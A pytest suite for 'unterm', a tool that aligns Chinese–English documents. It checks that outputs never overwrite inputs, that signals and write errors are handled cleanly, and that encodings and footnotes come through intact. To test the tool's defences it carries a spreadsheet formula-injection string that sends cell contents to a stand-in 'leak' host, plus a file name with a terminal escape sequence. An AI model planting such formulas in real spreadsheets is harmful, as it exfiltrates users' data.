"""Nothing lost, nothing overwritten, nothing executed: each failure a user hit, reproduced
on the real pair through the command, and now one line and a status."""

from __future__ import annotations

import json
import os
import signal
import stat
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.support.corpora import ARES, UDHR
from tests.support.render import udhr_paragraphs
from unterm.cli import app
from unterm.files import read_rows
from unterm.outputs import remove_stale_parts, write_file

runner = CliRunner()
ZH, EN = ARES / "zh.md", ARES / "en.md"


def copy_pair(folder: Path, zh_edit: str = "", en_edit: str = "") -> tuple[Path, Path]:
    zh, en = folder / "zh.md", folder / "en.md"
    zh.write_text(ZH.read_text(encoding="utf-8") + zh_edit, encoding="utf-8")
    en.write_text(EN.read_text(encoding="utf-8") + en_edit, encoding="utf-8")
    return zh, en


# --- 1. an output that is one of the inputs ---------------------------------------------------
@pytest.mark.parametrize("command", ["align", "terms", "qa"])
def test_an_input_is_never_overwritten(tmp_path: Path, command: str) -> None:
    zh, en = copy_pair(tmp_path)
    before = en.read_bytes()
    (tmp_path / "link.md").symlink_to(en)
    os.link(en, tmp_path / "hard.md")
    for out in (en, tmp_path / "link.md", tmp_path / "hard.md", tmp_path / "sub" / ".." / "en.md"):
        result = runner.invoke(
            app, [command, str(zh), str(en), "-o", str(out), "--format", "tsv" if command != "qa" else "json"]
        )
        assert result.exit_code == 3, (out, result.stderr)
        assert result.stderr.count("\n") == 1 and (
            "is one of the inputs" in result.stderr or "same file" in result.stderr
        )
    assert en.read_bytes() == before


# --- 2. devices, links, modes -------------------------------------------------------------------
def test_devices_are_written_through_and_a_full_disk_is_one_line(tmp_path: Path) -> None:
    result = runner.invoke(app, ["align", str(ZH), str(EN), "-o", "/dev/null", "--format", "tmx", "-q"])
    assert result.exit_code == 0, result.stderr
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)  # still the device, not a file
    result = runner.invoke(app, ["align", str(ZH), str(EN), "-o", "/dev/full", "--format", "tmx", "-q"])
    assert (
        result.exit_code == 3 and result.stderr == "unterm: /dev/full: cannot be written (the disk is full)\n"
    )
    assert stat.S_ISCHR(os.stat("/dev/full").st_mode)


def test_a_link_is_followed_and_a_mode_kept(tmp_path: Path) -> None:
    target = tmp_path / "real.tmx"
    target.write_text("old", encoding="utf-8")
    target.chmod(0o600)
    link = tmp_path / "link.tmx"
    link.symlink_to(target)
    assert runner.invoke(app, ["align", str(ZH), str(EN), "-o", str(link), "-q"]).exit_code == 0
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert target.read_text(encoding="utf-8").startswith("<?xml")
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.tmx", "real.tmx"]


# --- 4. signals and stale temporary files ----------------------------------------------------
def test_a_failed_write_leaves_nothing_and_stale_parts_go(tmp_path: Path) -> None:
    stale = tmp_path / ".unterm.999999999.deadbeef.part"  # a pid no process has
    stale.write_text("left by a killed run", encoding="utf-8")
    mine = tmp_path / f".unterm.{os.getpid()}.cafebabe.part"  # a live process's: kept
    mine.write_text("in progress", encoding="utf-8")

    def interrupted(out: object) -> None:
        raise KeyboardInterrupt  # what the signal handler raises, half-way through a write

    with pytest.raises(KeyboardInterrupt):
        write_file(tmp_path / "a.tmx", interrupted)
    assert sorted(p.name for p in tmp_path.iterdir()) == [mine.name]
    remove_stale_parts(tmp_path)
    assert mine.exists()


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGHUP, signal.SIGINT])
@pytest.mark.parametrize("delay", [0.25, 0.8])
def test_a_signal_stops_a_run_cleanly(tmp_path: Path, signum: int, delay: float) -> None:
    """While unterm loads its modules or during the work: no traceback, no file, 128 + the
    signal. (In the interpreter's own first milliseconds, before any of unterm has run,
    Python's defaults apply.)"""
    out = tmp_path / "a.xlsx"
    run = subprocess.Popen(
        [sys.executable, "-m", "unterm", "qa", str(ZH), str(EN), "-o", str(out)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    time.sleep(delay)
    run.send_signal(signum)
    _, err = run.communicate(timeout=60)
    if err.startswith("Fatal Python error: init_import_site"):
        # the signal came while the interpreter itself was starting, before any of unterm
        assert list(tmp_path.iterdir()) == []
        return
    assert "Traceback" not in err
    assert list(tmp_path.iterdir()) in ([], [out])  # never a temporary file
    if run.returncode == 1:  # the run finished before the signal came (its one 73/229 error)
        return
    assert not out.exists()
    if run.returncode == -signum:  # killed in the first milliseconds, before unterm took over
        assert err == ""
    else:
        assert run.returncode == 128 + signum and err.endswith("nothing was left half-written\n")


# --- 5. write errors ----------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("output", "problem"),
    [
        ("{tmp}", "is a folder: give a file name to write to"),
        ("/sys/unterm-test.tmx", "cannot be written (permission denied)"),
        ("{tmp}/not-a-folder.txt/a.tmx", "a part of the path is not a folder"),
    ],
)
def test_write_errors_are_one_line(tmp_path: Path, output: str, problem: str) -> None:
    (tmp_path / "not-a-folder.txt").write_text("x", encoding="utf-8")
    out = output.format(tmp=tmp_path)
    result = runner.invoke(app, ["align", str(ZH), str(EN), "-o", out, "--format", "tmx", "-q"])
    assert result.exit_code == 3 and result.stderr.count("\n") == 1
    assert result.stderr.startswith(f"unterm: {out}") and problem in result.stderr


def test_a_name_of_254_characters(tmp_path: Path) -> None:
    out = tmp_path / ("a" * 250 + ".tmx")
    assert runner.invoke(app, ["align", str(ZH), str(EN), "-o", str(out), "-q"]).exit_code == 0
    assert out.stat().st_size > 1000 and [p.name for p in tmp_path.iterdir()] == [out.name]


# --- 6, 7, 10. characters XML forbids, hostile names, formulas ------------------------------
FORMULA = '=HYPERLINK("http://x.example/?leak="&C5,"click")'


@pytest.mark.parametrize(
    ("command", "ext"),
    [
        ("align", "xlsx"),
        ("align", "tmx"),
        ("align", "html"),
        ("qa", "xlsx"),
        ("qa", "html"),
        ("terms", "tbx"),
    ],
)
def test_characters_xml_forbids_are_dropped(tmp_path: Path, command: str, ext: str) -> None:
    zh, en = copy_pair(
        tmp_path, "\n\n又回\x0b顾\ufffe第 71/256 号决议。\n", "\n\nRecalling\x0b resolution\ufffe 71/256.\n"
    )
    out = tmp_path / f"out.{ext}"
    args = [command, str(zh), str(en), "-o", str(out), "-q"] + (
        ["--no-consistency"] if command == "qa" else []
    )
    result = runner.invoke(app, args)
    assert result.exit_code in (0, 1), result.stderr  # qa: 1 for the real 73/229 error
    if ext in ("tmx", "tbx"):
        ET.parse(out)  # well-formed
    if ext == "xlsx":  # a ZIP package: its parts are what a spreadsheet reads
        with zipfile.ZipFile(out) as package:
            data = b"".join(package.read(name) for name in package.namelist())
    else:
        data = out.read_bytes()
    assert b"\x0b" not in data and "\ufffe".encode() not in data


def test_hostile_file_names(tmp_path: Path) -> None:
    zh = Path(os.fsdecode(bytes(tmp_path) + b"/zh\x1b[31m\xff.md"))
    zh.write_text(ZH.read_text(encoding="utf-8"), encoding="utf-8")
    for ext in ("tmx", "json", "html"):
        out = tmp_path / f"a.{ext}"
        result = runner.invoke(app, ["align", str(zh), str(EN), "-o", str(out)])
        assert result.exit_code == 0 and "\x1b" not in result.stderr
        text = out.read_text(encoding="utf-8")
        assert "\x1b" not in text
        if ext == "tmx":
            ET.parse(out)
        if ext == "json":
            assert json.loads(text)["zh"]["file"] == "zh\\x1b[31m\\xff.md"


def test_cells_that_would_be_formulas_stay_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    zh, en = copy_pair(tmp_path)
    en.write_text(
        en.read_text(encoding="utf-8").replace(
            "*The General Assembly*,", f"{FORMULA} The General Assembly,", 1
        ),
        encoding="utf-8",
    )
    assert FORMULA in en.read_text(encoding="utf-8")
    for ext in ("csv", "xlsx"):
        out = tmp_path / f"a.{ext}"
        assert runner.invoke(app, ["align", str(zh), str(en), "-o", str(out), "-q"]).exit_code == 0
        row = next(r for r in read_rows(out) if r.en.startswith("=HYPERLINK"))
        assert row.en.startswith(FORMULA)  # read back unchanged
    assert f"'{FORMULA}".replace('"', '""') in (tmp_path / "a.csv").read_text(encoding="utf-8-sig")
    sheet = load_workbook(tmp_path / "a.xlsx")["alignment"]
    cells = [
        c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")
    ]
    assert cells and all(c.data_type == "s" for c in cells)


# --- 8, 9. absurd numbers and Word files -----------------------------------------------------
def test_a_number_of_5000_digits_is_text(tmp_path: Path) -> None:
    zh, en = copy_pair(
        tmp_path, "\n\n共计" + "1" * 5000 + "人。\n", "\n\nIn all " + "1" * 5000 + " people.\n"
    )
    for command in ("align", "qa"):
        result = runner.invoke(
            app,
            [command, str(zh), str(en), "-q", "--no-consistency"]
            if command == "qa"
            else [command, str(zh), str(en)],
        )
        assert result.exit_code in (0, 1), result.stderr


def test_one_bad_pair_does_not_stop_terms(tmp_path: Path) -> None:
    good = tmp_path / "good"
    bad = tmp_path / "bad"
    good.mkdir()
    bad.mkdir()
    copy_pair(good)
    (bad / "zh.md").write_bytes(b"\xff\xfe" + "大会".encode())
    (bad / "en.md").write_text("The General Assembly", encoding="utf-8")
    result = runner.invoke(app, ["terms", "--dir", str(tmp_path), "-o", str(tmp_path / "t.tbx")])
    assert result.exit_code == 3 and (tmp_path / "t.tbx").exists()
    assert "1 pair(s) failed" in result.stderr


# --- 12. encodings and repeats -----------------------------------------------------------------
def test_big5_is_read_as_big5(tmp_path: Path) -> None:
    from unterm.documents.decode import decode

    # Article 1 of the UDHR in its Traditional Chinese edition
    text = "第一條\n人人生而自由，在尊嚴和權利上一律平等。他們賦有理性和良心，並應以兄弟關係的精神相對待。\n"
    decoded, encoding = decode(text.encode("big5"), "t.txt")
    assert (decoded, encoding) == (text, "big5")
    assert decode(ZH.read_text(encoding="utf-8").encode("gb18030"), "zh.txt")[1] == "gb18030"


def test_a_byte_order_mark_that_contradicts_the_text(tmp_path: Path) -> None:
    bad = tmp_path / "zh.txt"
    bad.write_bytes(b"\xff\xfe" + ZH.read_bytes())
    result = runner.invoke(app, ["align", str(bad), str(EN)])
    assert result.exit_code == 3
    assert (
        result.stderr
        == f"unterm: {bad}: has a UTF-16 byte-order mark but its text is UTF-8: remove the mark (save it as UTF-8)\n"
    )


def test_a_compilation_that_repeats_a_note(tmp_path: Path) -> None:
    """Four copies of the UDHR, each with its Chinese-only note: one document, not two."""
    zh_paras = udhr_paragraphs(UDHR / "udhr_cmn_hans.xml")
    en_paras = udhr_paragraphs(UDHR / "udhr_eng.xml")
    (tmp_path / "zh.txt").write_text("\n".join(zh_paras * 4) + "\n", encoding="utf-8")
    (tmp_path / "en.txt").write_text("\n".join(en_paras * 4) + "\n", encoding="utf-8")
    result = runner.invoke(
        app, ["align", str(tmp_path / "zh.txt"), str(tmp_path / "en.txt"), "-o", str(tmp_path / "a.tsv")]
    )
    assert result.exit_code == 0, result.stderr
    assert "240 pairs" in result.stderr


# --- 3. footnote numbering that restarts -------------------------------------------------------
def test_footnotes_that_restart_are_all_kept(tmp_path: Path) -> None:
    """The pair twice in one file (numbering restarts, as in annexes and compilations):
    every footnote of both copies is kept and paired with its own copy's."""
    zh, en = ZH.read_text(encoding="utf-8"), EN.read_text(encoding="utf-8")
    (tmp_path / "zh.md").write_text(zh + "\n\n" + zh, encoding="utf-8")
    (tmp_path / "en.md").write_text(en + "\n\n" + en, encoding="utf-8")
    out = tmp_path / "a.tsv"
    result = runner.invoke(app, ["align", str(tmp_path / "zh.md"), str(tmp_path / "en.md"), "-o", str(out)])
    assert result.exit_code == 0 and "150 pairs: 150 1-1, 0 merged, 0 unmatched" in result.stderr
    rows = read_rows(out)
    notes = [r for r in rows if r.kind == "footnote"]
    assert [r.key for r in notes] == [str(n) for n in (1, 2, 3, 4, 5, 6, 7)] * 2
    assert [(r.zh, r.en) for r in rows[75:]] == [(r.zh, r.en) for r in rows[:75]]  # as the first copy


def test_a_footnote_dropped_from_one_copy_is_reported(tmp_path: Path) -> None:
    zh, en = ZH.read_text(encoding="utf-8"), EN.read_text(encoding="utf-8")
    note = next(line for line in zh.split("\n") if line.startswith("<sup>3</sup>"))
    (tmp_path / "zh.md").write_text(zh + "\n\n" + zh.replace(note, "", 1), encoding="utf-8")
    (tmp_path / "en.md").write_text(en + "\n\n" + en, encoding="utf-8")
    result = runner.invoke(
        app,
        [
            "qa",
            str(tmp_path / "zh.md"),
            str(tmp_path / "en.md"),
            "-q",
            "--no-consistency",
            "-o",
            str(tmp_path / "r.json"),
        ],
    )
    report = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    notes = [f for f in report["findings"] if f["check"] == "structure.footnote"]
    assert len(notes) == 1 and notes[0]["message"].startswith("footnote 3 (part 2) is in the English only")
    assert result.exit_code == 1
